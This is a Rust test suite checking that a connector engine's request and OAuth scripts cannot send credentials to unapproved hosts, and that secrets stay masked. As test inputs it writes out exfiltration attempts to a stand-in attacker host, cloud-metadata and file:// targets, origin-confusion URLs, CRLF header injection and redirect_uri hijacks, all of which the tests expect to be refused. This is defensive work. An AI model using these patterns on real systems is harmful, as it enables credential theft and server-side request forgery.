//! Scripts around real calls and sign-ins, to a service made up here: what they may change, and what they never may.

use super::{Failure, FailureKind};
use crate::{Engine, Error, connect::Given, request::Call};
use domain::{
    agent_group::Route,
    attempt::AttemptState,
    connection::{CouldNotCheck, Verification},
    event::{EventKind, ScriptRun},
    id::{AttemptId, ConnectionId, ConnectorId, ProcessId},
    ports::{BoxFuture, HttpSend, Ports, TransportError},
    sign_in::SignInFailure,
};
use protocol::message::{HeaderMap, HeaderValue, Method, Request, Response, StatusCode};
use secret::SecretString;
use serde_json::json;
use std::{
    collections::{BTreeMap, VecDeque},
    sync::{Arc, Mutex},
    time::Duration,
};
use store::Store;

const KEY: &str = "k-secret-0123456789";
const LONG: Duration = Duration::from_secs(3600);

/// Remembers what it gets; answers what it was told, else an empty object.
#[derive(Default)]
struct Service {
    got: Mutex<Vec<Request>>,
    answers: Mutex<VecDeque<(u16, &'static str, &'static str)>>,
}

impl Service {
    fn answers(&self, status: u16, location: &'static str, body: &'static str) {
        self.answers.lock().unwrap().push_back((status, location, body));
    }

    fn got(&self) -> Vec<Request> {
        std::mem::take(&mut *self.got.lock().unwrap())
    }
}

impl HttpSend for Service {
    fn send<'a>(
        &'a self,
        _: &'a Route,
        request: Request,
        _: usize,
    ) -> BoxFuture<'a, Result<Response, TransportError>> {
        self.got.lock().unwrap().push(request);
        let (status, location, body) = self.answers.lock().unwrap().pop_front().unwrap_or((200, "", "{}"));
        let mut headers = HeaderMap::new();
        if !location.is_empty() {
            headers.insert("location", HeaderValue::from_static(location));
        }
        let status = StatusCode::from_u16(status).unwrap();
        Box::pin(async move { Ok(Response { status, headers, body: body.into() }) })
    }
}

struct Machine {
    engine: Engine,
    service: Arc<Service>,
    _directory: tempfile::TempDir,
}

impl Machine {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let service = Arc::new(Service::default());
        let ports: Ports = testkit::ports(service.clone());
        let store = Store::open(directory.path(), ports.clock.now()).unwrap();
        let process = ProcessId::make(&*ports.entropy);
        Self { engine: Engine::new(store, ports, process), service, _directory: directory }
    }

    /// A connector that was written here, ready.
    async fn own(&self, rest: serde_json::Value, script: &str) -> ConnectorId {
        let draft = self.engine.create_connector("Acme", "").await.unwrap();
        let id = draft.connector.id;
        let mut document = json!({
            "patchbay": 1, "link_name": "acme", "name": "Acme", "base_url": "https://api.acme.example/v1",
            "authentication": { "type": "api_key", "parameters": [{ "name": "Key", "key": "key", "location": "script" }] },
            "script": script,
        });
        document.as_object_mut().unwrap().extend(rest.as_object().unwrap().clone());
        self.engine.save_draft(&id, draft.connector.draft_version, document).await.unwrap();
        self.engine.mark_ready(&id).await.unwrap();
        id
    }

    /// Begins to connect; what is no secret goes where it belongs.
    async fn begin(
        &self,
        connector: &ConnectorId,
        given: &[(&str, &str)],
        opens_browser: bool,
    ) -> Result<AttemptId, Error> {
        let (plain, secrets): (Vec<_>, Vec<_>) = given.iter().partition(|(key, _)| *key == "username");
        let attempt = self
            .engine
            .begin_connect(Given {
                connector: connector.clone(),
                connection: None,
                name: "Jane".into(),
                environment: None,
                authentication: None,
                settings: BTreeMap::new(),
                values: plain.into_iter().map(|(key, value)| ((*key).into(), (*value).into())).collect(),
                secrets: secrets
                    .into_iter()
                    .map(|(key, value)| ((*key).into(), SecretString::new((*value).into())))
                    .collect(),
                scopes: None,
                way: None,
                opens_browser,
            })
            .await?;
        Ok(attempt.id)
    }

    async fn connect(&self, connector: &ConnectorId, given: &[(&str, &str)]) -> Result<AttemptState, Error> {
        let attempt = self.begin(connector, given, false).await?;
        Ok(self.engine.settled_attempt(&attempt, LONG).await.unwrap().state)
    }

    /// A connection of an own connector with this script.
    async fn connected(&self, script: &str) -> ConnectionId {
        let connector = self.own(json!({}), script).await;
        match self.connect(&connector, &[("key", KEY)]).await.unwrap() {
            AttemptState::Connected { connection, .. } => connection,
            state => panic!("{state:?}"),
        }
    }

    async fn call(&self, id: &ConnectionId) -> Result<Response, Error> {
        Ok(self.engine.call(id, &Call::new(Method::GET, "/me?page=1")).await?.outcome.unwrap())
    }

    async fn runs(&self) -> Vec<ScriptRun> {
        let exchanges =
            self.engine.store.read(|snapshot| snapshot.activity().exchanges(None, 9)).await.unwrap();
        exchanges.into_iter().rev().flat_map(|exchange| exchange.scripts).collect()
    }
}

fn body_of(script: &str) -> String {
    format!("function before_action() {{ {script} ; return true; }}")
}

fn failed<T: std::fmt::Debug>(outcome: Result<T, Error>) -> Failure {
    match outcome {
        Err(Error::Script { failure, .. }) => failure,
        other => panic!("{other:?}"),
    }
}

fn header<'a>(request: &'a Request, name: &str) -> &'a str {
    request.headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default()
}

#[tokio::test]
async fn a_script_cannot_send_a_credential_to_an_origin_that_was_not_agreed() {
    for address in [
        "https://evil.example/collect",
        "http://api.acme.example/v1/me",
        "https://api.acme.example:8443/v1/me",
        "https://api.acme.example.evil.example/",
        "https://API.ACME.EXAMPLE@evil.example/",
        "https://evil.example\\\\@api.acme.example/",
        "//evil.example/",
        "http://127.0.0.1:9000/",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
        "https://api.acme.example/\\r\\nHost: evil.example",
    ] {
        let machine = Machine::new();
        let script = format!(
            "method_endpoint = '{address}'; method_request_headers.Authorization = 'Bearer ' + method_auth_value"
        );
        let id = machine.connected(&body_of(&script)).await;
        let refused = machine.call(&id).await;
        let right = matches!(&refused, Err(Error::OriginNotAgreed(_)))
            || matches!(&refused, Err(Error::Script { failure, .. }) if failure.kind == FailureKind::Unfit);
        assert!(right, "{address}: {refused:?}");
        assert!(machine.service.got().is_empty(), "{address}: something left");
        let preview = machine.engine.preview_call(&id, &Call::new(Method::GET, "/me")).await;
        assert!(preview.is_err(), "{address}: {preview:?}");
    }
}

#[tokio::test]
async fn a_script_runs_anew_for_each_agreed_hop_and_never_for_another() {
    let machine = Machine::new();
    let id = machine
        .connected(&body_of(
            "method_request_headers['X-Sign'] = hmac('sha256', method_auth_value, method_endpoint)",
        ))
        .await;
    machine.service.answers(302, "/v1/there", "");
    machine.service.answers(302, "https://elsewhere.example/", "");
    machine.call(&id).await.unwrap();
    let [first, second, third] = &machine.service.got()[..] else { panic!("three hops") };
    let (one, two) = (header(first, "x-sign"), header(second, "x-sign"));
    assert!(one.len() == 64 && two.len() == 64 && one != two, "signed for its own address each");
    assert_eq!(header(third, "x-sign"), "", "nothing goes along to an origin that was not agreed");

    let script = "if (method_endpoint.endsWith('/there')) method_endpoint = 'https://evil.example/'";
    let machine = Machine::new();
    let id = machine.connected(&body_of(script)).await;
    machine.service.answers(302, "/v1/there", "");
    assert!(matches!(machine.call(&id).await, Err(Error::OriginNotAgreed(_))));
    assert_eq!(machine.service.got().len(), 1);
}

#[tokio::test]
async fn a_script_changes_the_request_and_the_reply_that_the_caller_sees() {
    let script = "function before_action() { method_request_headers.Authorization = 'Bearer ' + method_auth_value; \
        method_request_parameters.signed = 'yes'; return true } \
        function after_action() { console.log('status', method_response_status); \
        method_response_body = { items: JSON.parse(method_response_body).data }; return true } \
        function after_error() { method_response_body = 'sorry: ' + method_response_body; return true }";
    let machine = Machine::new();
    let id = machine.connected(script).await;
    machine.service.answers(200, "", r#"{"data":[1,2]}"#);
    let reply = machine.call(&id).await.unwrap();
    assert_eq!(reply.body, br#"{"items":[1,2]}"#);
    let [sent] = &machine.service.got()[..] else { panic!("one request") };
    assert_eq!(header(sent, "authorization"), format!("Bearer {KEY}"));
    assert_eq!(sent.url.as_str(), "https://api.acme.example/v1/me?page=1&signed=yes");
    let runs = machine.runs().await;
    let told: Vec<_> = runs.iter().map(|run| (run.event.as_str(), run.log.join("|"))).collect();
    assert_eq!(told, [("before_action", String::new()), ("after_action", "status 200".into())]);

    machine.service.answers(404, "", "gone");
    let reply = machine.call(&id).await.unwrap();
    assert_eq!((reply.status.as_u16(), reply.body.as_slice()), (404, b"sorry: gone".as_slice()));
}

#[tokio::test]
async fn what_a_script_says_keeps_the_secrets() {
    let script = "function before_action() { \
        console.log('key', method_auth_value, base64_encode(method_auth_value), encodeURIComponent(method_auth_value)); \
        console.log('x'.repeat(490) + method_auth_value); \
        if (method_request_parameters.page === '1') throw new Error('bad key ' + method_auth_value); return true }";
    let machine = Machine::new();
    let id = machine.connected(script).await;
    let failure = failed(machine.call(&id).await);
    assert_eq!(failure.message, "bad key •••");
    machine.engine.call(&id, &Call::new(Method::GET, "/me")).await.unwrap();
    let runs = machine.runs().await;
    assert_eq!(runs[0].log[0], "key ••• •••== •••");
    assert!(!format!("{runs:?}").contains(&KEY[..8]), "not even half of one: {runs:?}");
    let history = machine.engine.history(&id, None, 9).await.unwrap();
    let text = format!("{history:?}");
    assert!(text.contains("bad key •••") && !text.contains(KEY), "{text}");
}

#[tokio::test]
async fn what_a_script_writes_is_shown_as_gaps() {
    let script = "const turned = method_auth_value.split('').reverse().join(''); method_endpoint += '/' + turned; \
        method_request_headers['X-Turned'] = turned; method_request_parameters.turned = turned; method_request_body = turned";
    let machine = Machine::new();
    let id = machine.connected(&body_of(script)).await;
    let turned: String = KEY.chars().rev().collect();
    let sent = machine.engine.preview_call(&id, &Call::new(Method::POST, "/me?page=1")).await.unwrap();
    assert!(!format!("{sent:?}").contains(&turned), "{sent:?}");
    assert_eq!(sent.masked_url(), "https://api.acme.example/•••?page=1&turned=•••");
    assert!(machine.service.got().is_empty(), "a preview sends nothing");
    machine.call(&id).await.unwrap();
    let exchanges =
        machine.engine.store.read(|snapshot| snapshot.activity().exchanges(None, 9)).await.unwrap();
    assert!(!format!("{exchanges:?}").contains(&turned), "{exchanges:?}");
}

#[tokio::test]
async fn false_throwing_and_odd_answers_stop_before_anything_is_sent() {
    for (script, kind) in [
        ("function before_action() { return false }", FailureKind::Stopped),
        ("function before_action() { }", FailureKind::Returned),
        ("function before_action() { return 'true' }", FailureKind::Returned),
        ("async function before_action() { return true }", FailureKind::Returned),
        ("function before_action() { throw 'no company code' }", FailureKind::Threw),
        (
            "function before_action() { method_request_headers.Host = 'evil.example'; return true }",
            FailureKind::Unfit,
        ),
        (
            "function before_action() { method_request_headers['X-A'] = 'a\\r\\nb: c'; return true }",
            FailureKind::Unfit,
        ),
        ("function before_action() { method_request_headers = 7; return true }", FailureKind::Threw),
        ("function before_action() { for (;;) {} }", FailureKind::Time),
    ] {
        let machine = Machine::new();
        let id = machine.connected(script).await;
        assert_eq!(failed(machine.call(&id).await).kind, kind, "{script}");
        assert!(machine.service.got().is_empty(), "{script}");
        let history = machine.engine.history(&id, None, 9).await.unwrap();
        let stopped =
            history.events.iter().any(|(event, _)| matches!(event.kind, EventKind::ScriptStopped { .. }));
        assert!(stopped, "{script}: {history:?}");
        let (found, _) = machine.engine.verify(&id).await.unwrap();
        assert!(
            matches!(found, Verification::CouldNotCheck { reason: CouldNotCheck::NoRequest }),
            "{script}"
        );
    }
}

#[tokio::test]
async fn a_reply_that_a_script_refuses_does_not_reach_the_caller() {
    let machine = Machine::new();
    let id = machine.connected("function after_action() { throw new Error('no data in it') }").await;
    let failure = failed(machine.call(&id).await);
    assert_eq!(failure.message, "no data in it");
    assert_eq!(machine.service.got().len(), 1, "it was sent");
    assert_eq!(machine.runs().await[0].failure.as_deref().map(|said| said.contains("no data")), Some(true));
}

#[tokio::test]
async fn a_verify_that_a_script_stops_teaches_nothing() {
    let machine = Machine::new();
    let connector = machine
        .own(json!({ "verify": { "path": "/me" } }), "function before_action() { throw 'not today' }")
        .await;
    let state = machine.connect(&connector, &[("key", KEY)]).await.unwrap();
    let AttemptState::CouldNotCheck { reason: CouldNotCheck::Script { event, said }, .. } = state else {
        panic!("{state:?}");
    };
    assert_eq!((event.as_str(), said.as_str()), ("before_action", "not today"));
}

#[tokio::test]
async fn code_that_came_with_a_file_runs_only_after_a_person_agreed_to_that_text() {
    let machine = Machine::new();
    let file = |script: &str| {
        format!(
            "patchbay: 1\nlink_name: acme\nname: Acme\nbase_url: https://api.acme.example/v1\n\
             authentication: {{ type: api_key, parameters: [{{ name: Key, key: key, location: header }}] }}\nscript: |\n  {script}\n"
        )
    };
    let script = body_of("method_request_headers['X-A'] = '1'");
    let draft = machine.engine.import_connector(&file(&script), false).await.unwrap();
    let id = draft.connector.id;
    machine.engine.mark_ready(&id).await.unwrap();
    let refused = machine.connect(&id, &[("key", KEY)]).await;
    assert!(matches!(refused, Err(Error::ScriptNotAgreed { .. })), "{refused:?}");

    let shown = machine.engine.script_to_agree(&id).await.unwrap().unwrap();
    assert!(shown.source.contains("X-A") && !shown.agreed);
    assert!(machine.engine.agree_to_script(&id, "another digest").await.is_err());
    machine.engine.agree_to_script(&id, &shown.digest).await.unwrap();
    let AttemptState::Connected { connection, .. } = machine.connect(&id, &[("key", KEY)]).await.unwrap()
    else {
        panic!("it does not connect");
    };
    machine.call(&connection).await.unwrap();
    assert_eq!(header(&machine.service.got()[0], "x-a"), "1");

    // Another text from a file asks again, and what runs already goes on.
    let other = body_of("method_request_headers['X-A'] = '2'");
    machine.engine.import_connector(&file(&other), true).await.unwrap();
    machine.engine.mark_ready(&id).await.unwrap();
    assert!(matches!(machine.connect(&id, &[("key", KEY)]).await, Err(Error::ScriptNotAgreed { .. })));
    machine.call(&connection).await.unwrap();
    assert_eq!(header(&machine.service.got()[0], "x-a"), "1");

    // A letter added in the builder does not make it the person's own.
    let draft = machine.engine.open_draft(&id).await.unwrap().connector;
    let mut document = draft.draft;
    document["script"] = format!("{other} // mine").into();
    machine.engine.save_draft(&id, draft.draft_version, document).await.unwrap();
    machine.engine.mark_ready(&id).await.unwrap();
    assert!(matches!(machine.connect(&id, &[("key", KEY)]).await, Err(Error::ScriptNotAgreed { .. })));

    // The text that was agreed to is agreed to from whatever file.
    machine.engine.import_connector(&file(&script), true).await.unwrap();
    machine.engine.mark_ready(&id).await.unwrap();
    assert!(machine.connect(&id, &[("key", KEY)]).await.is_ok());
}

#[tokio::test]
async fn a_connection_whose_code_nobody_agreed_to_sends_nothing() {
    let machine = Machine::new();
    let id = machine.connected(&body_of("method_request_headers['X-A'] = '1'")).await;
    let connector = machine.engine.find_connector("acme").await.unwrap().id;
    machine.engine.withdraw_script(&connector).await.unwrap();
    assert!(matches!(machine.call(&id).await, Err(Error::ScriptNotAgreed { .. })));
    assert!(matches!(machine.engine.verify(&id).await, Err(Error::ScriptNotAgreed { .. })));
    assert!(machine.service.got().is_empty());
}

#[tokio::test]
async fn a_script_that_cannot_be_read_keeps_a_connector_from_being_ready() {
    let machine = Machine::new();
    let draft = machine.engine.create_connector("Acme", "").await.unwrap().connector;
    let document = json!({
        "patchbay": 1, "link_name": "acme", "name": "Acme", "base_url": "https://api.acme.example",
        "authentication": { "type": "none" }, "script": "function before_action() {\n  return tru e;\n}",
    });
    machine.engine.save_draft(&draft.id, draft.draft_version, document).await.unwrap();
    let Err(Error::NotComplete(problems)) = machine.engine.mark_ready(&draft.id).await else {
        panic!("ready")
    };
    assert_eq!(problems[0].pointer, "/script");
    assert!(problems[0].message.contains("line 2, column"), "{problems:?}");
}

const OAUTH: &str = "client_credentials";

fn oauth() -> serde_json::Value {
    json!({ "authentication": {
        "type": "oauth2", "grant_type": OAUTH, "client_id": "acme", "client_authentication": "body",
        "token_url": "https://login.acme.example/token",
    } })
}

#[tokio::test]
async fn a_script_shapes_token_requests_and_their_answers() {
    let script = "function before_oauth2_token() { method_request_headers['X-Version'] = '7'; \
        method_request_body += '&audience=api'; console.log(method_request_body); return true } \
        function after_oauth2_token() { const found = JSON.parse(method_response_body); \
        method_response_body = { access_token: found.result.token, expires_in: 10 }; return true }";
    let machine = Machine::new();
    let connector = machine.own(oauth(), script).await;
    machine.service.answers(200, "", r#"{"result":{"token":"at-secret-1"}}"#);
    let state = machine.connect(&connector, &[("client_secret", KEY)]).await.unwrap();
    let AttemptState::Connected { connection, .. } = state else { panic!("{state:?}") };
    let [token] = &machine.service.got()[..] else { panic!("one request") };
    assert_eq!(header(token, "x-version"), "7");
    let body = String::from_utf8(token.body.clone()).unwrap();
    assert!(body.contains("grant_type=client_credentials") && body.ends_with("&audience=api"), "{body}");
    let runs = machine.runs().await;
    assert!(runs.len() == 2 && !format!("{runs:?}").contains(KEY), "{runs:?}");
    machine.call(&connection).await.unwrap();
    assert_eq!(header(&machine.service.got()[0], "authorization"), "Bearer at-secret-1");
}

#[tokio::test]
async fn a_script_that_fails_around_a_token_is_told_and_sends_no_secret_elsewhere() {
    for (script, event, sent) in [
        ("function before_oauth2_token() { throw 'closed' }", "before_oauth2_token", 0),
        ("function before_oauth2_token() { return false }", "before_oauth2_token", 0),
        ("function after_oauth2_token() { throw 'odd' }", "after_oauth2_token", 1),
    ] {
        let machine = Machine::new();
        let connector = machine.own(oauth(), script).await;
        machine.service.answers(200, "", r#"{"access_token":"at-1"}"#);
        let state = machine.connect(&connector, &[("client_secret", KEY)]).await.unwrap();
        let AttemptState::Failed { failure: SignInFailure::Script { event: told, .. }, .. } = state else {
            panic!("{script}: {state:?}");
        };
        assert_eq!((told.as_str(), machine.service.got().len()), (event, sent), "{script}");
    }
    let machine = Machine::new();
    let script =
        "function before_oauth2_token() { method_endpoint = 'https://evil.example/token'; return true }";
    let connector = machine.own(oauth(), script).await;
    let state = machine.connect(&connector, &[("client_secret", KEY)]).await.unwrap();
    assert!(matches!(state, AttemptState::Failed { .. }), "{state:?}");
    assert!(machine.service.got().is_empty(), "the client secret went nowhere");
}

#[tokio::test]
async fn no_token_is_lost_because_a_script_fails_on_the_answer_of_a_refresh() {
    let machine = Machine::new();
    let mut rest = oauth();
    rest["authentication"]["grant_type"] = "password".into();
    let script = "function after_oauth2_refresh() { throw 'odd' }";
    let connector = machine.own(rest, script).await;
    machine.service.answers(200, "", r#"{"access_token":"at-1","refresh_token":"rt-1","expires_in":3600}"#);
    let given = [("client_secret", KEY), ("password", "pw-12345"), ("username", "jane")];
    let state = machine.connect(&connector, &given).await.unwrap();
    let AttemptState::Connected { connection, .. } = state else { panic!("{state:?}") };
    machine.service.got();
    machine.service.answers(200, "", r#"{"access_token":"at-2","refresh_token":"rt-2","expires_in":3600}"#);
    machine.engine.refresh(&connection).await.unwrap();
    machine.service.got();
    machine.call(&connection).await.unwrap();
    assert_eq!(header(&machine.service.got()[0], "authorization"), "Bearer at-2");
}

#[tokio::test]
async fn a_script_adds_to_the_sign_in_page_and_takes_no_protection_away() {
    for (script, adds) in [
        ("method_request_parameters.tenant = 'acme'", true),
        ("method_request_parameters.state = 'mine'", false),
        ("method_request_parameters.redirect_uri = 'https://evil.example/'", false),
        ("method_request_parameters.code_challenge = 'x'", false),
        ("method_endpoint = 'https://evil.example/authorize'", false),
        ("throw 'closed'", false),
    ] {
        let machine = Machine::new();
        let mut rest = oauth();
        rest["authentication"]["grant_type"] = "authorization_code".into();
        rest["authentication"]["redirect"] = "loopback".into();
        rest["authentication"]["authorize_url"] = "https://login.acme.example/authorize".into();
        let source = format!("function before_oauth2_authorise() {{ {script} ; return true }}");
        let connector = machine.own(rest, &source).await;
        let attempt = machine.begin(&connector, &[("client_secret", KEY)], true).await.unwrap();
        let link = loop {
            match machine.engine.attempt(&attempt).await.unwrap().state {
                AttemptState::SigningIn { .. } | AttemptState::Failed { .. } => {
                    break machine.engine.sign_in_link(&attempt).await;
                }
                _ => tokio::task::yield_now().await,
            }
        };
        match link {
            // EXPOSE: the test is the person in the browser
            Ok(link) => assert!(adds && link.expose().contains("&tenant=acme"), "{script}"),
            Err(_) => assert!(!adds, "{script}"),
        }
    }
}
